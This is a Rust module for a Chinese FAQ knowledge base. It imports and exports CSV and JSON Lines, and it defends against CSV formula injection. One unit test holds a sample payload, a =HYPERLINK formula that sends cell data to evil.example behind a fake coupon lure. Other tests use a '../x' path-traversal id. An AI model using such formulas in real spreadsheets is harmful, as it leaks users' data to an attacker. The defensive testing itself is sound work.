//! Import and export in the formats operators keep: CSV spreadsheets (UTF-8,
//! GBK, or UTF-16 with a byte-order mark; comma or tab separated) with a
//! header row 问题, 相似问法 (`|` or newline separated), 答案, 分类, 商品,
//! 生效时间, 失效时间 (optional 编号 / id, 英文答案; English headers accepted
//! too), and JSON Lines. Every problem is listed by row (line); nothing is
//! imported while any row is bad unless asked.

use std::borrow::Cow;

use serde::Serialize;
use sha2::{Digest, Sha256};

use super::edit::{FaqEdit, FaqInput};
use super::error::LineIndex;
use super::types::KnowledgeBase;
use super::validate::{is_blank, shown};

/// What an import found: the entries it would write and every bad row.
#[derive(Debug, Clone, Default, Serialize, utoipa::ToSchema)]
pub struct ImportReport {
    /// Encoding the file was read as (`UTF-8`, `GBK`, `UTF-16LE` or `UTF-16BE`).
    pub encoding: String,
    pub rows: usize,
    #[schema(value_type = Vec<Object>)]
    pub entries: Vec<FaqEdit>,
    /// `(row, message)`, rows counted from 1 with the header as row 1.
    pub problems: Vec<(usize, String)>,
}

const COLUMNS: &[(&str, &[&str])] = &[
    ("id", &["编号", "id"]),
    ("question", &["问题", "标准问题", "question"]),
    ("similar", &["相似问法", "similar"]),
    ("answer", &["答案", "answer"]),
    ("answer_en", &["英文答案", "answer_en"]),
    ("category", &["分类", "category"]),
    ("products", &["商品", "products"]),
    ("valid_from", &["生效时间", "valid_from"]),
    ("valid_until", &["失效时间", "valid_until"]),
];

/// Decodes and checks a CSV file against `kb` (for product ids).
pub fn parse_csv(bytes: &[u8], kb: &KnowledgeBase) -> ImportReport {
    let (text, encoding) = decode(bytes);
    let mut report = ImportReport { encoding: encoding.into(), ..Default::default() };
    // Excel's "Unicode text" is tab separated; a header row with tabs and no
    // comma is read that way.
    let header_line = text.lines().next().unwrap_or("");
    let delimiter = if header_line.contains('\t') && !header_line.contains(',') { b'\t' } else { b',' };
    let mut reader = csv::ReaderBuilder::new().flexible(true).delimiter(delimiter).from_reader(text.as_bytes());
    let header = match reader.headers() {
        Ok(h) => h.clone(),
        Err(e) => {
            report.problems.push((1, format!("cannot read the header row: {e}")));
            return report;
        }
    };
    let index = |name: &str| {
        let names = COLUMNS.iter().find(|(n, _)| *n == name).map_or(&[][..], |(_, a)| a);
        header.iter().position(|h| names.iter().any(|n| h.trim().eq_ignore_ascii_case(n)))
    };
    for required in ["question", "answer"] {
        if index(required).is_none() {
            report
                .problems
                .push((1, format!("missing column {}", COLUMNS.iter().find(|(n, _)| *n == required).unwrap().1[0])));
        }
    }
    if !report.problems.is_empty() {
        return report;
    }
    let mut seen = std::collections::HashMap::new();
    for (i, record) in reader.records().enumerate() {
        let row = i + 2;
        report.rows += 1;
        let record = match record {
            Ok(r) => r,
            Err(e) => {
                report.problems.push((row, format!("unreadable row: {e}")));
                continue;
            }
        };
        let cell = |name: &str| {
            let raw = index(name).and_then(|i| record.get(i)).unwrap_or("");
            unquote_cell(raw.trim()).trim().to_string()
        };
        let list = |name: &str, seps: &[char]| -> Vec<String> {
            cell(name).split(seps).map(str::trim).filter(|s| !is_blank(s)).map(str::to_string).collect()
        };
        let mut answer = std::collections::BTreeMap::from([("zh".to_string(), cell("answer"))]);
        if !is_blank(&cell("answer_en")) {
            answer.insert("en".into(), cell("answer_en"));
        }
        let input = FaqInput {
            question: cell("question"),
            similar: list("similar", &['|', '\n']),
            answer,
            category: cell("category"),
            tags: Vec::new(),
            products: list("products", &['|', ',', '，', ' ']),
            valid_from: Some(cell("valid_from")).filter(|s| !s.is_empty()),
            valid_until: Some(cell("valid_until")).filter(|s| !s.is_empty()),
            priority: 0,
        };
        let id = match cell("id") {
            id if !id.is_empty() => id,
            _ => format!("csv-{}", &hex::encode(Sha256::digest(input.question.as_bytes()))[..12]),
        };
        if let Some(first) = seen.insert(id.clone(), row) {
            report.problems.push((row, format!("same entry as row {first} (id `{}`)", shown(&id))));
            continue;
        }
        check(&mut report, row, id, input, kb);
    }
    report
}

/// UTF-16 when the bytes start with its byte-order mark, else UTF-8 (BOM or
/// not), else GBK (what Excel writes on Chinese Windows).
fn decode(bytes: &[u8]) -> (Cow<'_, str>, &'static str) {
    if let Some((encoding, bom)) = encoding_rs::Encoding::for_bom(bytes)
        && encoding != encoding_rs::UTF_8
    {
        return (encoding.decode_without_bom_handling(&bytes[bom..]).0, encoding.name());
    }
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    match std::str::from_utf8(bytes) {
        Ok(text) => (Cow::Borrowed(text), "UTF-8"),
        Err(_) => (encoding_rs::GBK.decode_without_bom_handling(bytes).0, "GBK"),
    }
}

/// What makes a spreadsheet read a cell as a formula (CSV injection).
const FORMULA_START: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// A cell as exported: text a spreadsheet would run as a formula gets the `'`
/// spreadsheets take as "this is text". Text that already starts with `'`s
/// before such a character gets one more, so [`unquote_cell`] undoes exactly this.
pub fn quote_cell(text: &str) -> Cow<'_, str> {
    if text.trim_start_matches('\'').starts_with(FORMULA_START) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The inverse of [`quote_cell`]: one leading `'` dropped before a formula character.
fn unquote_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(FORMULA_START) => rest,
        _ => cell,
    }
}

fn check(report: &mut ImportReport, row: usize, id: String, input: FaqInput, kb: &KnowledgeBase) {
    match input.to_faq(&id, kb, "import") {
        Ok(_) => report.entries.push(FaqEdit { id, entry: Some(input) }),
        Err(problems) => report.problems.extend(problems.into_iter().map(|p| (row, p))),
    }
}

/// JSON Lines: `{"id", "question", "answer", …}` a line, `answer` a text or
/// a table of locale → text (what `xiaoer kb export --format jsonl` writes).
pub fn parse_jsonl(bytes: &[u8], kb: &KnowledgeBase) -> ImportReport {
    let mut report = ImportReport { encoding: "UTF-8".into(), ..Default::default() };
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => text,
        Err(e) => {
            let at = e.valid_up_to();
            report.problems.push((LineIndex::new(&bytes[..at]).line(at), "JSON Lines must be UTF-8".into()));
            return report;
        }
    };
    let mut seen = std::collections::HashMap::new();
    for (i, line) in text.lines().enumerate().filter(|(_, l)| !is_blank(l)) {
        let row = i + 1;
        report.rows += 1;
        let mut value: serde_json::Value = match serde_json::from_str(line) {
            Ok(v) => v,
            Err(e) => {
                report.problems.push((row, format!("invalid JSON: {e}")));
                continue;
            }
        };
        let id = match value.as_object_mut().and_then(|o| o.remove("id")) {
            Some(serde_json::Value::String(s)) if !s.trim().is_empty() => s.trim().to_string(),
            Some(serde_json::Value::Number(n)) => n.to_string(),
            _ => {
                report.problems.push((row, "`id` must be a non-empty string or a number".into()));
                continue;
            }
        };
        if let Some(answer) = value.get_mut("answer")
            && let serde_json::Value::String(s) = answer
        {
            *answer = serde_json::json!({ "zh": s.clone() });
        }
        let input: FaqInput = match serde_json::from_value(value) {
            Ok(v) => v,
            Err(e) => {
                report.problems.push((row, e.to_string()));
                continue;
            }
        };
        if let Some(first) = seen.insert(id.clone(), row) {
            report.problems.push((row, format!("same id `{}` as line {first}", shown(&id))));
            continue;
        }
        check(&mut report, row, id, input, kb);
    }
    report
}

/// The whole FAQ set as a CSV spreadsheet with the import's Chinese header.
pub fn export_csv(kb: &KnowledgeBase) -> Result<String, csv::Error> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["编号", "问题", "相似问法", "答案", "英文答案", "分类", "商品", "生效时间", "失效时间"])?;
    for f in &kb.faqs {
        let e = FaqInput::from_faq(f);
        let answer = |l: &str| e.answer.get(l).cloned().unwrap_or_default();
        let cells = [
            f.id.as_str(),
            &e.question,
            &e.similar.join("|"),
            &answer("zh"),
            &answer("en"),
            &e.category,
            &e.products.join("|"),
            e.valid_from.as_deref().unwrap_or(""),
            e.valid_until.as_deref().unwrap_or(""),
        ];
        w.write_record(cells.map(quote_cell).iter().map(|c| c.as_bytes()))?;
    }
    let bytes = w.into_inner().map_err(|e| e.into_error())?;
    Ok(String::from_utf8(bytes).expect("written from &str"))
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;
    use std::path::PathBuf;

    use super::*;
    use crate::kb::{Faq, Location};

    fn kb_with(faqs: Vec<Faq>) -> KnowledgeBase {
        KnowledgeBase { faqs, ..Default::default() }
    }

    fn faq(id: &str, question: &str, similar: &[&str], zh: &str, en: &str, category: &str) -> Faq {
        Faq {
            id: id.into(),
            question: question.into(),
            similar: similar.iter().map(|s| s.to_string()).collect(),
            answers: BTreeMap::from([("zh".into(), zh.into()), ("en".into(), en.into())]),
            category: category.into(),
            tags: Vec::new(),
            products: Vec::new(),
            valid_from: None,
            valid_until: None,
            priority: 0,
            location: Location { file: PathBuf::from("test.toml"), line: 1 },
        }
    }

    #[test]
    fn export_quotes_formulas_and_import_gives_the_text_back() {
        let kb = kb_with(vec![
            faq(
                "-promo",
                "=1+1是什么活动",
                &["-20度能发货吗", "@客服 在吗", "'=本来就带引号"],
                "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击领取优惠券\")",
                "+86 400 820 8820",
                "@活动",
            ),
            faq("quoted", "'=SUM(A1:A9)", &["''+1"], "'就是引号开头", "plain", "售后"),
        ]);
        let csv = export_csv(&kb).unwrap();
        assert!(csv.contains("'=HYPERLINK("), "{csv}");
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(!cell.starts_with(FORMULA_START), "a spreadsheet would evaluate {cell:?}");
            }
        }
        let report = parse_csv(csv.as_bytes(), &kb);
        assert!(report.problems.is_empty(), "{:?}", report.problems);
        for (edit, f) in report.entries.iter().zip(&kb.faqs) {
            let e = edit.entry.as_ref().unwrap();
            assert_eq!((&edit.id, &e.question, &e.similar, &e.answer), (&f.id, &f.question, &f.similar, &f.answers));
            assert_eq!(e.category, f.category);
        }
    }

    #[test]
    fn quote_and_unquote_are_inverse() {
        for text in ["", "'", "''", "'a", "=", "'=", "''=x", "a=b", "-", "\t1", "\r", "'@", "+", "退货", "'退货"] {
            assert_eq!(unquote_cell(&quote_cell(text)), text, "{text:?}");
        }
        assert_eq!(unquote_cell("'=SUM(A1)"), "=SUM(A1)");
        assert_eq!(unquote_cell("'-5"), "-5");
        assert_eq!(unquote_cell("'abc"), "'abc");
        assert_eq!(quote_cell("abc=1"), "abc=1");
    }

    fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
        let units = std::iter::once(0xFEFF).chain(text.encode_utf16());
        units.flat_map(|u| if big_endian { u.to_be_bytes() } else { u.to_le_bytes() }).collect()
    }

    #[test]
    fn utf16_with_bom_is_read_comma_or_tab_separated() {
        let kb = KnowledgeBase::default();
        let comma = "问题,答案\n跨境商品可以开专票吗,不可以，跨境商品不能开具增值税专用发票。\n";
        // Excel's "Unicode text": UTF-16LE, tab separated, CRLF.
        let tabs = "问题\t相似问法\t答案\r\n跨境商品可以开专票吗\t\"能开专票吗\n可以开增值税专票吗\"\t不可以，跨境商品不能开具增值税专用发票。\r\n";
        for text in [comma, tabs] {
            for (big_endian, name) in [(false, "UTF-16LE"), (true, "UTF-16BE")] {
                let r = parse_csv(&utf16(text, big_endian), &kb);
                assert_eq!(r.encoding, name);
                assert!(r.problems.is_empty(), "{name}: {:?}", r.problems);
                let e = r.entries[0].entry.as_ref().unwrap();
                assert_eq!(e.question, "跨境商品可以开专票吗");
                assert_eq!(e.answer["zh"], "不可以，跨境商品不能开具增值税专用发票。");
                if text == tabs {
                    assert_eq!(e.similar, ["能开专票吗", "可以开增值税专票吗"]);
                }
            }
        }
        let (gbk, _, _) = encoding_rs::GBK.encode(comma);
        assert_eq!(parse_csv(&gbk, &kb).encoding, "GBK");
        assert_eq!(parse_csv(format!("\u{FEFF}{comma}").as_bytes(), &kb).encoding, "UTF-8");
    }

    #[test]
    fn csv_rows_with_bad_ids_or_invisible_texts_are_reported_by_row() {
        let text = "编号,问题,相似问法,答案\nok-1,包邮吗,\u{200B}|包不包邮,包邮\n../x,退货,,可以\nblank,\u{200B}\u{200B},,可以\nno-answer,运费,,\u{FEFF}\u{202E}\n";
        let r = parse_csv(text.as_bytes(), &KnowledgeBase::default());
        assert_eq!(r.entries.len(), 1);
        assert_eq!(r.entries[0].entry.as_ref().unwrap().similar, ["包不包邮"]);
        let has = |row: usize, needle: &str| r.problems.iter().any(|(r, m)| *r == row && m.contains(needle));
        assert!(has(3, "id `../x`"), "{:?}", r.problems);
        assert!(has(4, "`question` is empty"), "{:?}", r.problems);
        assert!(has(5, "`zh` answer"), "{:?}", r.problems);
    }

    #[test]
    fn jsonl_import_names_the_line_of_bad_utf8() {
        let mut bytes = b"{\"id\":\"a\",\"question\":\"q\",\"answer\":\"x\"}\n\n{\"id\":\"b\",\"question\":\"".to_vec();
        bytes.extend([0xcd, 0xcb]);
        let r = parse_jsonl(&bytes, &KnowledgeBase::default());
        assert_eq!(r.problems, [(3, "JSON Lines must be UTF-8".to_string())]);
    }
}
